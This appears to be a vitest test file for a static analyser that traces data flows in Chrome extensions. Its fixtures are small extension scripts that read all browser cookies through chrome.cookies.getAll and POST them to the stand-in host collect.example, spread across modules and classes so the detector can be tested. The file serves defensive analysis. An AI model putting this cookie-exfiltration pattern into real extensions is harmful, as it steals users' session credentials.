import { expect, test } from 'vitest';
import { flowsOf } from '../extension/flowsOf.ts';
import { factsOf } from '../testing/examples.ts';

const SEND = "fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(";

async function isSent(files: Readonly<Record<string, string>>, type = 'module'): Promise<boolean> {
  const background = { service_worker: 'bg.js', ...(type === 'module' ? { type } : {}) };
  const facts = await factsOf({
    files: { 'manifest.json': JSON.stringify({ manifest_version: 3, background }), ...files },
  });
  return facts.whole(flowsOf).flows.some(({ source, sink }) => source.kind === 'cookies' && sink.kind === 'network');
}

/** How a part of the interface gets to another script. */
test.each([
  [
    'a class of another module',
    `import { Pantry } from './other.js'; const pantry = new Pantry(chrome.cookies); ${SEND}await pantry.all()) });`,
    'export class Pantry { #source; constructor(source) { this.#source = source; } all() { return this.#source.getAll({}); } }',
  ],
  [
    'a function of another module',
    `import make from './other.js'; const jar = make(chrome.cookies); jar.send();`,
    `export default (source) => ({ async send() { ${SEND}await source.getAll({})) }); } });`,
  ],
  [
    'an object of parts',
    `import { Jar } from './other.js'; new Jar({ cookies: chrome.cookies }).send();`,
    `export class Jar { constructor({ cookies }) { this.cookies = cookies; } async send() { ${SEND}await this.cookies.getAll({})) }); } }`,
  ],
])('is known through %s', async (_, background, other) => {
  expect(await isSent({ 'bg.js': background, 'other.js': other })).toBe(true);
});

test('is known through three modules', async () => {
  const sent = await isSent({
    'bg.js': `import start from './start.js'; start(chrome);`,
    'start.js': `import { Jar } from './jar.js'; export default async (api) => { ${SEND}await new Jar(api.cookies).all()) }); };`,
    'jar.js': 'export class Jar { constructor(jar) { this.jar = jar; } all() { return this.jar.getAll({}); } }',
  });
  expect(sent).toBe(true);
});

test('is known through a class under a name that scripts share', async () => {
  const sent = await isSent(
    {
      'bg.js': `importScripts('a.js', 'b.js'); App.jar = new App.Jar(chrome.cookies); App.push(App.jar);`,
      'a.js':
        'var App = App || {}; App.Jar = function (source) { this.source = source; }; App.Jar.prototype.all = function (done) { this.source.getAll({}, done); };',
      'b.js': `App.push = function (jar) { jar.all((list) => ${SEND}list) })); };`,
    },
    'classic',
  );
  expect(sent).toBe(true);
});

test('is not known where a parameter is given different things of the interface', async () => {
  const sent = await isSent({
    'bg.js': `import { Jar } from './other.js'; const past = new Jar(chrome.windows), jar = new Jar(chrome.cookies); ${SEND}await past.all()) });`,
    'other.js': 'export class Jar { constructor(of) { this.of = of; } all() { return this.of.getAll({}); } }',
  });
  expect(sent).toBe(false);
});
